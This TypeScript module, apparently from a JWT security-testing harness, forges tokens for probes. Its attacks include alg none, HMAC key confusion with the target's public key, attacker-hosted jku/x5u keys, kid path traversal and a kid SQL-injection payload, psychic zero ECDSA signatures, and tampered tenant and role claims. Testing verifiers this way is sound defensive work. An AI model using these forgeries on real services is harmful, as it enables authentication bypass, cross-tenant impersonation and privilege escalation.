/**
 * Turns a forgery recipe (plain data from `generators/forged-token.ts`) into the token string a
 * probe presents. jose refuses to build most of these (alg none, duplicate keys, r = s = 0), so
 * they are assembled by hand from base64url segments; HMAC signatures use node:crypto, which also
 * accepts the empty key a `/dev/null` kid points at.
 */
import { createHmac, createPublicKey, randomBytes } from 'node:crypto';
import type { JWK } from 'jose';
import type { ForgeryRecipe } from '../../generators/forged-token.ts';
import type { IdentityHandle } from './identity-handle.ts';
import { mintToken } from './mint-token.ts';
import type { SigningKey } from './signing-key.ts';

/** What a forgery is made from: the identity the target trusts, the actor's claims and the attacker's tools. */
export interface ForgeContext {
  handle: IdentityHandle;
  /** The complete claims a valid token of the actor carries. */
  claims: Record<string, unknown>;
  /** Claim names, to tamper with the right ones. */
  claimNames: { user: string; tenant: string; role: string };
  /**
   * The complete claims a valid token of another tenant's user carries: a tampered payload claims
   * that identity with the values and JSON types the target expects (an integer tenant id minted
   * as a number), so only the broken signature stands between it and acceptance.
   */
  victimClaims: Record<string, unknown>;
  /** A role to escalate to in a tampered payload (as a one-element list where the role claim is a list). */
  escalatedRole: string;
  ttlSeconds: number;
  /** A key pair of `alg` the target has never seen (the attacker's); callers cache it. */
  attackerKey: (alg: string) => Promise<SigningKey>;
  /** Origin of the attacker JWKS the harness hosts, for `jku`/`x5u`. */
  attackerOrigin: string;
}

const b64 = (data: string | Buffer): string => Buffer.from(data).toString('base64url');
const json = (value: unknown): string => b64(JSON.stringify(value));
const decode = (segment: string): Record<string, unknown> => JSON.parse(Buffer.from(segment, 'base64url').toString('utf8')) as Record<string, unknown>;

function hmac(alg: string, key: string | Buffer, input: string): string {
  return createHmac(`sha${alg.slice(2)}`, key)
    .update(input)
    .digest('base64url');
}

/** The target's active public key for `alg` (or its first), as an attacker reads it from the JWKS. */
function targetKey(handle: IdentityHandle, alg?: string): { kid: string; publicJwk: JWK } {
  const active = handle.keys.filter((k) => k.active);
  const found = active.find((k) => k.alg === alg) ?? active[0];
  if (!found) throw new Error('forgeToken: the identity handle has no active asymmetric key');
  return found;
}

/** The public key in the textual form a confused verifier may use as an HMAC secret. */
function publicKeyBytes(handle: IdentityHandle, alg: string, form: 'pem' | 'pem-newline' | 'der' | 'jwk'): Buffer {
  // A public-key target knows only the first key (the PEM it was given), whatever the algorithm.
  const { publicJwk } = handle.mode === 'public-key' ? targetKey(handle) : targetKey(handle, alg);
  if (form === 'jwk') return Buffer.from(JSON.stringify(publicJwk));
  const key = createPublicKey({ key: publicJwk as Record<string, unknown> as never, format: 'jwk' });
  if (form === 'der') return key.export({ type: 'spki', format: 'der' });
  const pem = handle.mode === 'public-key' && handle.publicKeyPem ? handle.publicKeyPem : String(key.export({ type: 'spki', format: 'pem' }));
  return Buffer.from(form === 'pem-newline' ? `${pem.trimEnd()}\n` : pem.trimEnd());
}

function flipBit(signature: string, bit: number): string {
  const bytes = Buffer.from(signature, 'base64url');
  if (bytes.length === 0) return signature;
  const at = bit % (bytes.length * 8);
  bytes[at >> 3]! ^= 1 << (at & 7);
  return bytes.toString('base64url');
}

/** Builds the token `recipe` describes for the actor of `ctx`. */
export async function forgeToken(recipe: ForgeryRecipe, ctx: ForgeContext): Promise<string> {
  const { handle, claims, ttlSeconds } = ctx;
  const valid = await mintToken(handle, claims, { ttlSeconds });
  const [head, body, signature] = valid.split('.') as [string, string, string];
  const header = decode(head);
  const payload = decode(body);

  switch (recipe.family) {
    case 'alg-none':
      return `${json({ alg: recipe.spelling, typ: 'JWT' })}.${body}.${recipe.keepSignature ? signature : ''}`;
    case 'signature':
      if (recipe.defect === 'empty') return `${head}.${body}.`;
      if (recipe.defect === 'truncated') return `${head}.${body}.${signature.slice(0, Math.floor(signature.length / 2))}`;
      return `${head}.${body}.${flipBit(signature, recipe.bit)}`;
    case 'unknown-key': {
      const key = await ctx.attackerKey(recipe.alg);
      if (recipe.kid === 'absent') return mintToken(handle, claims, { ttlSeconds, key, omitHeader: ['kid'] });
      const kid = recipe.kid === 'target' ? targetKey(handle, recipe.alg).kid : randomBytes(8).toString('hex');
      return mintToken(handle, claims, { ttlSeconds, key: { ...key, kid } });
    }
    case 'hs-confusion': {
      const input = `${json({ alg: recipe.alg, typ: 'JWT', kid: targetKey(handle, recipe.keyAlg).kid })}.${body}`;
      return `${input}.${hmac(recipe.alg, publicKeyBytes(handle, recipe.keyAlg, recipe.form), input)}`;
    }
    case 'embedded-key': {
      const key = await ctx.attackerKey('ES256');
      const extra = recipe.header === 'jwk' ? { jwk: key.publicJwk } : { [recipe.header]: `${ctx.attackerOrigin}${recipe.path}` };
      return mintToken(handle, claims, { ttlSeconds, key, header: extra });
    }
    case 'kid-injection': {
      const kid = recipe.attack === 'path-traversal' ? `${'../'.repeat(recipe.depth)}dev/null` : `x' UNION SELECT '${recipe.secret}' -- `;
      const input = `${json({ alg: 'HS256', typ: 'JWT', kid })}.${body}`;
      return `${input}.${hmac('HS256', recipe.secret, input)}`;
    }
    case 'tampered-payload': {
      const names = ctx.claimNames;
      const changed = { ...payload };
      if (recipe.claim === 'tenant') changed[names.tenant] = ctx.victimClaims[names.tenant];
      else if (recipe.claim === 'user') changed[names.user] = ctx.victimClaims[names.user];
      else if (recipe.claim === 'role') changed[names.role] = Array.isArray(payload[names.role]) ? [ctx.escalatedRole] : ctx.escalatedRole;
      else changed.exp = Number(payload.exp) + 86_400;
      return `${head}.${json(changed)}.${signature}`;
    }
    case 'duplicate-alg': {
      // JSON.stringify cannot repeat a key; the member is spliced into the serialised header.
      const text = JSON.stringify(header);
      const raw = recipe.noneLast ? `${text.slice(0, -1)},"alg":"none"}` : `{"alg":"none",${text.slice(1)}`;
      return `${b64(raw)}.${body}.`;
    }
    case 'crit':
      return mintToken(handle, claims, { ttlSeconds, header: { crit: [recipe.extension], [recipe.extension]: true } });
    case 'malformed':
      switch (recipe.shape) {
        case 'two-segments':
          return `${head}.${body}`;
        case 'four-segments':
          return `${valid}.${signature}`;
        case 'not-base64':
          return `${head}.${body.slice(0, -2)}*$.${signature}`;
        case 'header-not-json':
          return `${b64(JSON.stringify(header).slice(0, -1))}.${body}.${signature}`;
        case 'payload-not-json':
          return `${head}.${b64('not json')}.${signature}`;
        case 'payload-array':
          return `${head}.${json([payload])}.${signature}`;
        case 'oversized': {
          // Padding grows the base64url payload by 4/3; the signature is then broken, so only size and a bad signature remain.
          const padded = await mintToken(handle, { ...claims, pad: 'x'.repeat(Math.floor((recipe.size * 3) / 4)) }, { ttlSeconds });
          const [h, p, s] = padded.split('.') as [string, string, string];
          return `${h}.${p}.${flipBit(s, 0)}`;
        }
      }
      break;
    case 'psychic': {
      const bytes = { ES256: 64, ES384: 96, ES512: 132 }[recipe.alg];
      const input = `${json({ alg: recipe.alg, typ: 'JWT', kid: targetKey(handle, recipe.alg).kid })}.${body}`;
      return `${input}.${Buffer.alloc(bytes).toString('base64url')}`;
    }
  }
  throw new Error(`forgeToken: unknown recipe ${JSON.stringify(recipe)}`);
}
